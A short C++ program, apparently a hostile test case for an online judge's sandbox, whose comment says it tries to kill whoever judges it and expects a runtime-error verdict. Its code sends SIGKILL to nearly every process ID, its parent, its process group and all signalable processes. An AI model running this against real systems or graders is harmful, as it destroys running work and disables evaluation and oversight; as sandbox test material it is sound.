// Tries: to end whoever judges it: its parent, its process group, everybody.
// Task: secret. Must get: RE.
#include <csignal>
#include <unistd.h>
int main() {
    for (int pid = 1; pid < 70000; pid++)
        if (pid != getpid()) kill(pid, SIGKILL);
    kill(getppid(), SIGKILL);
    kill(-1, SIGKILL);
    kill(0, SIGKILL);
    return 1;
}
